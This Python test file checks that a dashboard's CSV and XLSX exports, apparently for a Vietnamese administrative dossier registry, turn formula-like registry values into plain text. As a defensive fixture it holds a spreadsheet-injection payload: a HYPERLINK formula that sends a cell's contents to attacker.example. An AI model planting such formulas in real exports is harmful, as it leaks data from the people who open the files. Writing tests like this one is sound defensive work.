"""Registry values in the dashboard's CSV and XLSX exports are text, never spreadsheet formulas."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from storage.catalog import open_catalog
from storage.catalog.registry import import_registry
from tests.web.archive import settings_for
from web import exports

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def test_the_one_neutralising_rule_prefixes_formula_starts_and_keeps_everything_else() -> None:
    for text in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("UBND xã Lộc An") == "UBND xã Lộc An"
    assert exports.neutralise(-0.5) == -0.5 and exports.neutralise(12) == 12
    assert exports.neutralise(None) is None


def test_a_registry_field_that_looks_like_a_formula_is_exported_as_text(web_home, client_for) -> None:
    registry = web_home / "formula-registry.csv"
    registry.write_text(
        "dossier_code,unit,field,procedure_code,procedure,applicant,received_at,status\n"
        f'H21.65-240101-0001,UBND xã Lộc An,"{FORMULA.replace(chr(34), chr(34) * 2)}",1.001193,'
        "Thủ tục,Nguyễn Văn A,01/01/2024,Đã tiếp nhận\n",
        encoding="utf-8",
    )
    catalog = open_catalog(settings_for(web_home).database_url)
    try:
        assert import_registry(catalog, registry).imported == 1
    finally:
        catalog.close()
    admin = client_for("admin")

    xlsx = admin.get("/dashboard/export.xlsx", params={"by": "field"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=5)]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert "'" + FORMULA in [cell.value for cell in cells]

    response = admin.get("/dashboard/export.csv", params={"by": "field"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + FORMULA in [r[1] for r in rows[1:]]
